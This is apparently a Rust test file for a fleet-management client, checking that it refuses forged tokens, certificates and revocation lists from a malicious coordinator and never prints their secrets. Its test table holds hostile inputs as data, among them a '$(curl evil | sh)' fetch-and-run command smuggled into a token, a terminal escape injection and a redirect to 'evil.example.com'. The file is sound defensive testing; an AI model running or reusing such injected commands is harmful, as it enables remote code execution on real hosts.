//! A coordinator in the wrong hands: it has the fleet's CA and its address, and answers with tokens and certificates of
//! its own making. Nothing of that may be printed, kept or used.

use std::time::Duration;

use windlass_certs::ca::{CertificateAuthority, Leaf};
use windlass_certs::csr::Csr;
use windlass_certs::dsse::{Envelope, PayloadType};
use windlass_certs::identity::Identity;
use windlass_certs::join::{JoinToken, OperatorToken, Terms};
use windlass_certs::keys::SigningKey;
use windlass_certs::revocation::{RevocationList, RevokedSet};
use windlass_core::{Digest, OperatorName, Timestamp};
use windlass_testkit::now;

use crate::coordinator::{Coordinator, Script};
use crate::{Desk, stderr, stdout};

const HOUR: Duration = Duration::from_secs(3600);

/// A fleet, a coordinator that lies, and what it knows of the fleet.
struct Lies {
    desk: Desk,
    coordinator: Coordinator,
    ca: CertificateAuthority,
    first: Vec<u8>,
}

impl Lies {
    fn new() -> Self {
        let desk = Desk::with_fleet();
        let coordinator = Coordinator::start(&desk, Script::default());
        let ca = CertificateAuthority::load(&desk.path("server/ca")).unwrap();
        let first = std::fs::read(desk.path("server/trust/1.json")).unwrap();
        Self { desk, coordinator, ca, first }
    }

    fn trust_pin(&self) -> Digest {
        Envelope::parse(&self.first, 1 << 20).unwrap().digest()
    }

    fn host(&self, terms: Terms) -> JoinToken {
        let (fleet, host) = ("demo".parse().unwrap(), "web-1".parse().unwrap());
        let bare = JoinToken::new(fleet, host, self.ca.fingerprint(), self.trust_pin()).unwrap();
        let (fleet, host) = (bare.fleet().clone(), bare.host().clone());
        bare.under(fleet, host, self.ca.fingerprint(), self.trust_pin(), terms)
    }

    fn operator(&self, terms: Terms) -> OperatorToken {
        let (fleet, name) = ("demo".parse().unwrap(), "bob".parse().unwrap());
        let bare = OperatorToken::new(fleet, name, self.ca.fingerprint(), self.trust_pin()).unwrap();
        let (fleet, name) = (bare.fleet().clone(), bare.name().clone());
        bare.under(fleet, name, self.ca.fingerprint(), self.trust_pin(), terms)
    }

    fn script(&self, edit: impl FnOnce(&mut Script)) {
        edit(&mut self.coordinator.script.lock().unwrap());
    }

    fn ask(&self, desk: &Desk, args: &[&str]) -> std::process::Output {
        desk.run(&[&["--server", &self.coordinator.address], args].concat())
    }

    /// Asks for a token while the coordinator answers with this one.
    fn token(&self, args: &[&str], token: &str, expires_at: Timestamp) -> std::process::Output {
        self.script(|script| script.token = (token.to_owned(), expires_at.as_millis()));
        self.ask(&self.desk, args)
    }
}

/// Ours with one part put in place of another.
fn bent(token: &str, part: usize, with: &str) -> String {
    let mut parts: Vec<&str> = token.split('.').collect();
    parts[part] = with;
    parts.join(".")
}

const HOST: [&str; 5] = ["host", "token", "web-1", "--label", "role=app"];
const BOB: [&str; 6] = ["operator", "invite", "bob", "--role", "viewer", "--everywhere"];

#[test]
fn a_token_that_is_not_ours_is_refused_and_not_shown() {
    let lies = Lies::new();
    let (theirs, soon) = (Digest::of(b"theirs"), now() + Duration::from_secs(540));
    let pin = |digest: Digest| {
        let token = JoinToken::new("x".parse().unwrap(), "x".parse().unwrap(), digest, digest).unwrap();
        token.to_string().rsplit_once('.').unwrap().1.to_owned()
    };
    let none = Terms::default;
    let (host, bob) = (lies.host(none()).to_string(), lies.operator(none()).to_string());
    let (theirs, grant) = (pin(theirs), Some("admin/*".parse().unwrap()));
    let raised = lies.operator(Terms { grant, ..none() }).to_string();
    let labels = Some([("role".to_owned(), "vault".to_owned())].into());
    let moved = |server: &str| lies.host(Terms { server: Some(server.to_owned()), ..none() }).to_string();
    #[rustfmt::skip]
    let table: [(&[&str], String, Timestamp, &str); 16] = [
        (&HOST, bent(&host, 4, &theirs), soon, "names the CA"),
        (&HOST, bent(&host, 5, &theirs), soon, "as the first trust document"),
        (&HOST, bent(&host, 1, "prod"), soon, "it is for fleet `prod`"),
        (&HOST, bent(&host, 2, "db-1"), soon, "it is for host `db-1`"),
        (&HOST, host.clone(), now() + HOUR, "it is good until"),
        (&HOST, lies.host(Terms { labels, ..none() }).to_string(), soon, "it gives the host the labels"),
        (&HOST, moved("evil.example.com:7443"), soon, "it sends them to"),
        (&HOST, format!("{host}\u{1b}]0;owned\u{7}"), soon, "it is not a token"),
        (&HOST, format!("{host}\n$(curl evil | sh)"), soon, "it is not a token"),
        (&HOST, bob.clone(), soon, "it is not a token"),
        (&BOB, bent(&bob, 4, &theirs), soon, "names the CA"),
        (&BOB, bent(&bob, 5, &theirs), soon, "as the first trust document"),
        (&BOB, bent(&bob, 1, "prod"), soon, "it is for fleet `prod`"),
        (&BOB, bent(&bob, 2, "eve"), soon, "it is for operator `eve`"),
        (&BOB, raised, soon, "it makes them admin/*, viewer/* was asked for"),
        (&BOB, bob.clone(), now() + 2 * HOUR, "it is good until"),
    ];
    for (args, token, expires_at, want) in table {
        let output = lies.token(args, &token, expires_at);
        let (out, err) = (stdout(&output), stderr(&output));
        assert_eq!((output.status.code(), out.as_str()), (Some(1), ""), "{want}: {err}");
        assert!(err.contains(want) && err.contains("do not use this coordinator"), "{want}: {err}");
        let secret = token.split('.').nth(3).unwrap();
        assert!(!err.contains(secret) && !err.contains(&token), "nothing usable: {err}");
        let json = lies.ask(&lies.desk, &[args, &["-o", "json"]].concat());
        assert_eq!((json.status.code(), stdout(&json).as_str()), (Some(1), ""));
        assert!(!stderr(&json).contains(secret));
    }
    // An honest answer, to be sure that it is the lie that is refused; and only its secret is the coordinator's.
    let output = lies.token(&HOST, &host, soon);
    let token = JoinToken::parse(&stdout(&output)).unwrap_or_else(|_| panic!("{}", stderr(&output)));
    let parts = (token.host().as_str(), token.ca_pin(), token.trust_pin());
    assert_eq!(parts, ("web-1", lies.ca.fingerprint(), lies.trust_pin()));
    assert_eq!(token.terms().labels.as_ref().unwrap()["role"], "app");
    assert_eq!(token.secret().hash(), JoinToken::parse(&host).unwrap().secret().hash());
    let output = lies.token(&BOB, &bob, soon);
    let token = OperatorToken::parse(&stdout(&output)).unwrap_or_else(|_| panic!("{}", stderr(&output)));
    assert_eq!(token.terms().grant, Some("viewer/*".parse().unwrap()));
}

#[test]
fn a_certificate_that_was_not_asked_for_is_not_kept() {
    let lies = Lies::new();
    let terms = Terms { grant: Some("viewer/*".parse().unwrap()), ..Terms::default() };
    let token = lies.operator(terms).to_string();
    let join = ["operator", "join", "--token", &token];
    let issue = |dir: Option<CertificateAuthority>, name: &str, grant: &str| {
        let ca = dir.unwrap_or_else(|| CertificateAuthority::load(&lies.desk.path("server/ca")).unwrap());
        let name: OperatorName = name.parse().unwrap();
        let leaf =
            Leaf::operator(Identity::operator("demo".parse().unwrap(), &name), grant.parse().unwrap(), 7);
        lies.script(|script| {
            script.trust = vec![lies.first.clone()];
            script.certify = Some(Box::new(move |csr| {
                ca.issue(&Csr::from_der(csr).unwrap(), &leaf, now()).unwrap().chain_pem
            }));
        });
    };
    let other = || CertificateAuthority::generate("demo".parse().unwrap(), now()).unwrap();
    let bob = Desk::new();
    let lie = |want: &str| {
        let output = lies.ask(&bob, &join);
        assert_eq!(output.status.code(), Some(1), "{want}: {}", stdout(&output));
        assert!(stderr(&output).contains(want), "{want}: {}", stderr(&output));
        for kept in ["operator.pem", "trust/1.json"] {
            assert!(!bob.path("home/fleets/demo").join(kept).exists(), "{want}: {kept}");
        }
    };
    issue(Some(other()), "bob", "viewer/*");
    lie("not one of this fleet's CA");
    issue(None, "eve", "viewer/*");
    lie("is that of `spiffe://demo/operator/eve`");
    issue(None, "bob", "admin/*");
    lie("lets its holder be admin/*, viewer/* was promised");
    // Another root, for a first version of the same fleet.
    let elsewhere = Desk::with_fleet();
    issue(None, "bob", "viewer/*");
    let theirs = std::fs::read(elsewhere.path("server/trust/1.json")).unwrap();
    lies.script(|script| script.trust = vec![theirs]);
    lie("are not those that the token names");
    issue(None, "bob", "viewer/*");
    let output = lies.ask(&bob, &join);
    assert!(output.status.success(), "{}", stderr(&output));
}

#[test]
fn a_renewal_that_is_not_ours_changes_nothing() {
    let lies = Lies::new();
    let file = lies.desk.path("home/fleets/demo/operator.pem");
    let name: OperatorName = "alice".parse().unwrap();
    let identity = Identity::operator("demo".parse().unwrap(), &name);
    // Expired an hour ago, so that the next command renews it before anything else.
    let leaf = Leaf { validity: HOUR, ..Leaf::operator(identity.clone(), "deployer/*".parse().unwrap(), 1) };
    std::fs::remove_file(&file).unwrap();
    lies.ca.issue_new(&leaf, now() - 2 * HOUR).unwrap().save(&file).unwrap();
    let before = std::fs::read(&file).unwrap();
    let other = CertificateAuthority::generate("demo".parse().unwrap(), now()).unwrap();
    let own = || CertificateAuthority::load(&lies.desk.path("server/ca")).unwrap();
    let eve = Identity::operator("demo".parse().unwrap(), &"eve".parse().unwrap());
    let table = [
        (other, identity.clone(), "deployer/*", "not one of this fleet's CA"),
        (own(), eve, "deployer/*", "is that of `spiffe://demo/operator/eve`"),
        (own(), identity, "viewer/*", "lets its holder be viewer/*, deployer/* was promised"),
    ];
    for (ca, identity, grant, want) in table {
        let leaf = Leaf::operator(identity, grant.parse().unwrap(), 2);
        lies.script(|script| {
            script.certify = Some(Box::new(move |csr| {
                ca.issue(&Csr::from_der(csr).unwrap(), &leaf, now()).unwrap().chain_pem
            }));
        });
        let output = lies.ask(&lies.desk, &["status"]);
        assert_eq!(output.status.code(), Some(1), "{want}");
        assert!(stderr(&output).contains(want), "{want}: {}", stderr(&output));
        assert_eq!(std::fs::read(&file).unwrap(), before, "{want}");
    }
}

#[test]
fn a_coordinator_with_a_revoked_certificate_is_not_called() {
    let lies = Lies::new();
    let list = |version: u64, key: &str| {
        let stolen: Identity = "spiffe://demo/coordinator/coordinator".parse().unwrap();
        let revoked = RevokedSet { identities: [(stolen, 1)].into(), ..RevokedSet::default() };
        let list = RevocationList { fleet: "demo".parse().unwrap(), version, issued_at: now(), revoked };
        let key = SigningKey::load(&lies.desk.path(key)).unwrap();
        Envelope::sign(PayloadType::Revocation, serde_json::to_vec(&list).unwrap(), &[&key]).to_bytes()
    };
    let show = || lies.ask(&lies.desk, &["trust", "show"]);
    // A list that a coordinator made up, and one that leaves no room for the next, are not kept.
    let revoke = "home/fleets/demo/revoke.key";
    for made_up in [list(1, "server/keys/audit.key"), list(u64::MAX, revoke)] {
        lies.script(|script| script.revocations = made_up);
        assert!(show().status.success() && show().status.success());
    }
    lies.script(|script| script.revocations = list(1, revoke));
    assert!(show().status.success(), "it is kept for the next time");
    lies.script(|script| script.revocations.clear());
    let refused = show();
    assert!(!refused.status.success(), "{}", stdout(&refused));
    assert!(stderr(&refused).to_lowercase().contains("revoked"), "{}", stderr(&refused));
}
